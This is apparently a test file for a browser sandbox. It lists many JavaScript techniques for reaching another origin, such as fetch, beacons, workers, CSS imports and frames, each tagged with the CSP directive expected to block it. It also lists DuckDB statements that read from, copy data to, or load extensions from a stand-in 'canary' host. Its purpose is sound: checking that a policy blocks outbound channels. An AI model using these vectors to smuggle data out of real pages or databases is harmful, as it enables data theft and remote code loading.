/** One way to another origin: code that runs there, with the address to reach as `at`. */
export interface Way {
  readonly title: string;
  readonly code: string;
  /** The directive that the browser says it was refused by. */
  readonly by?: string;
  /** What the browser says it refused, where that is not the address itself. */
  readonly refused?: 'inline' | 'data' | 'blob' | 'host' | 'own' | 'elsewhere';
  /** The code itself learns of it. */
  readonly throws?: true;
  /** Nothing would arrive without a policy either: browsers refuse it anyway, or the canary cannot answer it. */
  readonly hopeless?: true;
  /** Chromium connects before it asks the policy, and then sends nothing. */
  readonly connects?: true;
}

const blobWorker = (source: string, options = '') => `
  const source = ${JSON.stringify(source)}.replace('AT', at);
  const worker = new Worker(URL.createObjectURL(new Blob([source], {type: 'text/javascript'}))${options});
  await new Promise((done, fail) => {
    worker.onmessage = ({data}) => (data === 'arrived' ? done() : fail(data));
    worker.onerror = () => fail('the worker did not start');
  });`;
const reportBack = `.then(() => postMessage('arrived'), (error) => postMessage(String(error)))`;

const anywhere: Way[] = [
  {title: 'fetch', code: 'await fetch(at)', by: 'connect-src', throws: true},
  {
    title: 'a fetch that does not ask for an answer',
    code: `await fetch(at, {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})`,
    by: 'connect-src',
    throws: true,
  },
  {
    title: 'a redirect of our own host',
    code: `await fetch(elsewhere, {mode: 'no-cors'})`,
    by: 'connect-src',
    refused: 'elsewhere',
    throws: true,
  },
  {
    title: 'XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('GET', at); request.send(); await loaded(request)`,
    by: 'connect-src',
    throws: true,
  },
  {
    title: 'a synchronous XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('GET', at, false); request.send()`,
    by: 'connect-src',
    throws: true,
  },
  {
    title: 'WebSocket',
    code: `await loaded(new WebSocket(at.replace('http', 'ws')))`,
    by: 'connect-src',
    throws: true,
  },
  {title: 'EventSource', code: 'await loaded(new EventSource(at))', by: 'connect-src', throws: true},
  {
    title: 'WebTransport',
    code: `await new WebTransport(at.replace('http', 'https')).ready`,
    by: 'connect-src',
    throws: true,
    hopeless: true,
  },
  {
    title: 'the cache of requests',
    code: `await (await caches.open('canary')).add(at)`,
    by: 'connect-src',
    throws: true,
  },
  {title: 'import()', code: 'await import(at)', by: 'script-src-elem', throws: true},
  {
    title: 'a font',
    code: `await new FontFace('canary', 'url(' + at + ')').load()`,
    by: 'font-src',
    throws: true,
  },
  {title: 'a worker from there', code: 'new Worker(at)', throws: true, hopeless: true},
  {
    title: 'a module worker from there',
    code: `new Worker(at, {type: 'module'})`,
    throws: true,
    hopeless: true,
  },
  {
    title: 'a worker from an address of ours, which no policy in the page would bind',
    code: `await loaded(new Worker(own))`,
    by: 'worker-src',
    refused: 'own',
    throws: true,
    hopeless: true,
  },
  {
    title: 'a worker from a data address',
    code: `await loaded(new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + at + '")')))`,
    by: 'worker-src',
    refused: 'data',
    throws: true,
  },
  {
    title: 'fetch in a worker from a blob',
    code: blobWorker(`fetch('AT', {mode: 'no-cors'})${reportBack}`),
    throws: true,
  },
  {
    title: 'importScripts() in a worker from a blob',
    code: blobWorker(`importScripts('AT'); postMessage('arrived')`),
    throws: true,
  },
  {
    title: 'import() in a module worker from a blob',
    code: blobWorker(`import('AT')${reportBack}`, `, {type: 'module'}`),
    throws: true,
  },
];

const onPage: Way[] = [
  {title: 'sendBeacon', code: `navigator.sendBeacon(at, 'x')`, by: 'connect-src'},
  {
    title: 'the ping of a link',
    code: `add('a', {href: '#here', ping: at}).click()`,
    by: 'connect-src',
  },
  {title: 'a shared worker from there', code: 'new SharedWorker(at)', throws: true, hopeless: true},
  {
    title: 'a service worker',
    code: 'await navigator.serviceWorker.register(own)',
    by: 'worker-src',
    refused: 'own',
    throws: true,
    hopeless: true,
  },
  {title: 'a paint worklet', code: 'await CSS.paintWorklet.addModule(at)', throws: true},
  {title: 'an audio worklet', code: 'await new AudioContext().audioWorklet.addModule(at)', throws: true},
  {title: 'a script', code: `add('script', {src: at})`, by: 'script-src-elem'},
  {title: 'a module script', code: `add('script', {type: 'module', src: at})`, by: 'script-src-elem'},
  {
    title: 'a script in a picture',
    code: `
      const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
      script.setAttribute('href', at);
      document.body.append(script)`,
    by: 'script-src-elem',
  },
  {
    title: 'rules for what to load ahead',
    code: `
      const rules = {prefetch: [{source: 'list', urls: [at]}]};
      add('script', {type: 'speculationrules', textContent: JSON.stringify(rules)})`,
    by: 'script-src-elem',
    refused: 'inline',
  },
  {
    title: 'an image',
    code: `const image = new Image(); image.src = at; await loaded(image)`,
    by: 'img-src',
    throws: true,
  },
  {title: 'the sources of an image', code: `add('img', {srcset: at + ' 2x'})`, by: 'img-src'},
  {title: 'the poster of a video', code: `add('video', {poster: at})`, by: 'img-src'},
  {title: 'an image button', code: `add('input', {type: 'image', src: at})`, by: 'img-src'},
  {title: 'the icon of the page', code: `add('link', {rel: 'icon', href: at}, document.head)`, by: 'img-src'},
  {title: 'an SVG image', code: `html('<svg><image href="' + at + '" /></svg>')`, by: 'img-src'},
  {
    title: 'an image in an SVG filter',
    code: `html('<svg><filter id="f"><feImage href="' + at + '" /></filter><rect filter="url(#f)" width="9" height="9" /></svg>')`,
    by: 'img-src',
  },
  {title: 'an SVG use', code: `html('<svg><use href="' + at + '#part" /></svg>')`, hopeless: true},
  {
    title: 'the background of an element',
    code: `document.body.style.backgroundImage = 'url(' + at + ')'`,
    by: 'img-src',
  },
  {title: 'a mouse pointer', code: `document.body.style.cursor = 'url(' + at + '), auto'`, by: 'img-src'},
  {
    title: 'the style attribute of written HTML',
    code: `html('<p style="background: url(' + at + ')">Text</p>')`,
    by: 'style-src-attr',
    refused: 'inline',
  },
  {
    title: 'the background in a constructed stylesheet',
    code: `adopt('body {border-image-source: url(' + at + ')}')`,
    by: 'img-src',
  },
  {
    title: 'a font in a constructed stylesheet',
    code: `adopt('@font-face {font-family: canary; src: url(' + at + ')}'); await document.fonts.load('9px canary')`,
    by: 'font-src',
    throws: true,
  },
  {
    title: '@import in a constructed stylesheet',
    code: `adopt('@import "' + at + '";')`,
    hopeless: true,
  },
  {
    title: '@import in a style element',
    code: `add('style', {textContent: '@import "' + at + '";'})`,
    by: 'style-src-elem',
    refused: 'inline',
  },
  {
    title: '@import in our own stylesheet',
    code: `document.styleSheets[0].insertRule('@import "' + at + '";', 0)`,
    by: 'style-src-elem',
  },
  {title: 'a linked stylesheet', code: `add('link', {rel: 'stylesheet', href: at})`, by: 'style-src-elem'},
  {title: 'prefetch', code: `add('link', {rel: 'prefetch', href: at})`, by: 'default-src'},
  {
    title: 'preload of a script',
    code: `add('link', {rel: 'preload', as: 'script', href: at})`,
    by: 'script-src-elem',
  },
  {
    title: 'preload of data',
    code: `add('link', {rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: at})`,
    by: 'connect-src',
  },
  {title: 'modulepreload', code: `add('link', {rel: 'modulepreload', href: at})`, by: 'script-src-elem'},
  {title: 'a video', code: `add('video', {preload: 'auto', src: at})`, by: 'media-src'},
  {title: 'a sound', code: `add('audio', {preload: 'auto', src: at})`, by: 'media-src'},
  {
    title: 'the subtitles of a video',
    code: `html('<video crossorigin><track default src="' + at + '"></video>'); document.querySelector('track').track.mode = 'showing'`,
    by: 'media-src',
  },
  {title: 'object', code: `add('object', {data: at})`, by: 'object-src', refused: 'host'},
  {title: 'embed', code: `add('embed', {src: at})`, by: 'object-src', refused: 'host'},
  {title: 'a frame', code: `add('iframe', {src: at})`, by: 'frame-src', refused: 'host', connects: true},
  {
    title: 'a frame that is sent there',
    code: `add('iframe', {}).contentWindow.location = at`,
    by: 'frame-src',
    refused: 'host',
    connects: true,
  },
  {
    title: 'a frame from a blob',
    code: `add('iframe', {src: URL.createObjectURL(new Blob(['<img src="' + at + '">'], {type: 'text/html'}))})`,
    by: 'frame-src',
    refused: 'blob',
  },
  {
    title: 'an image in a frame of our own',
    code: `add('iframe', {srcdoc: '<img src="' + at + '">'})`,
    by: 'img-src',
  },
  {
    title: 'a script in a frame of our own',
    code: `add('iframe', {srcdoc: '<script>fetch("' + at + '")</' + 'script>'})`,
    by: 'script-src-elem',
    refused: 'inline',
  },
  {
    title: 'fetch in an empty frame',
    code: `await add('iframe', {}).contentWindow.fetch(at)`,
    by: 'connect-src',
    throws: true,
  },
  {
    title: 'fetch in an empty window',
    code: `
      const opened = open('about:blank');
      try { await opened.fetch(at) } finally { opened.close() }`,
    throws: true,
  },
  {
    title: 'a form',
    code: `add('form', {action: at, method: 'post'}).submit()`,
    by: 'form-action',
    connects: true,
  },
  {
    title: 'a form into a frame',
    code: `add('iframe', {name: 'inner'}); add('form', {action: at, method: 'post', target: 'inner'}).submit()`,
    by: 'form-action',
    connects: true,
  },
  {
    title: 'a policy of its own with a place for reports',
    code: `
      html('<meta http-equiv="Content-Security-Policy" content="img-src https:; report-uri ' + at + '">', document.head);
      add('img', {src: own})`,
    by: 'img-src',
    refused: 'own',
    hopeless: true,
  },
];

const importScripts: Way = {title: 'importScripts()', code: 'importScripts(at)', throws: true};

export const fromPage: readonly Way[] = [...anywhere, ...onPage];
export const fromOwnWorker: readonly Way[] = [...anywhere, {...importScripts, hopeless: true}];
export const fromEngineWorker: readonly Way[] = [...anywhere, {...importScripts, by: 'script-src-elem'}];

/** The way as an expression for a page or a worker of `site`; says whether the code went through. */
export const program = ({code}: Way, at: string, site: string) => `(async (at, own, elsewhere) => {
  const add = (tag, properties, parent = document.body) => {
    const element = Object.assign(document.createElement(tag), properties);
    parent.append(element);
    return element;
  };
  const html = (text, parent = document.body) => parent.insertAdjacentHTML('beforeend', text);
  const adopt = (text) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(text);
    document.adoptedStyleSheets.push(sheet);
  };
  const loaded = (target) => new Promise((done, fail) => {
    target.onload = target.onopen = target.onmessage = done;
    target.onerror = () => fail('an error event');
  });
  try {
    ${code};
    return 'done';
  } catch (error) {
    return 'failed: ' + error;
  }
})(${JSON.stringify(at)}, ${JSON.stringify(`${site}own.js`)}, ${JSON.stringify(`${site}elsewhere`)})`;

/** Statements that would read from, write to or load from another origin; `http://canary` stands for it. */
export const statements: readonly string[] = [
  "from read_csv('http://canary/orders.csv')",
  "from 'http://canary/orders.csv'",
  "from read_text('http://canary/orders.csv')",
  "from read_blob('http://canary/orders.csv')",
  "from glob('http://canary/*')",
  "from sniff_csv('http://canary/orders.csv')",
  "attach 'http://canary/shop.db' as shop",
  "copy (select 42 as customers) to 'http://canary/customers.csv'",
  "export database 'http://canary/shop'",
  "import database 'http://canary/shop'",
  "load 'http://canary/canary.duckdb_extension.wasm'",
  "install parquet from 'http://canary'; load parquet",
];

/** Those that are tried where the engine runs in a browser. */
export const browserStatements: readonly string[] = [
  ...statements,
  "from read_csv('http://canary/orders.csv', header = false, columns = {'line': 'varchar'})",
  "attach 'http://canary/other.db' as other (read_only)",
  "create or replace temp table lines(line varchar); copy lines from 'http://canary/orders.csv'",
  "force install json from 'http://canary'; load json",
  "set custom_extension_repository = 'http://canary'; install icu; load icu",
];

export const aimedAt = (origin: string, statement: string) => statement.replaceAll('http://canary', origin);
